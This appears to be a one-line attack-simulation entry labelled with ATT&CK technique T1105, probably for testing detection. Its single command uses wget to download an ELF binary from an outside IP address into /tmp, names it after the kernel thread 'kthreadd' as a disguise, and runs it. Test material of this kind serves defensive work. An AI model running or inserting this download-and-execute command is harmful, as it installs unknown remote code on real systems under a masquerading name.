# title: wget downloads a program into /tmp, and it is run
# technique: T1105
# needs: wget

wget -q -O /tmp/kthreadd http://192.88.99.7/x.elf && chmod +x /tmp/kthreadd && /tmp/kthreadd
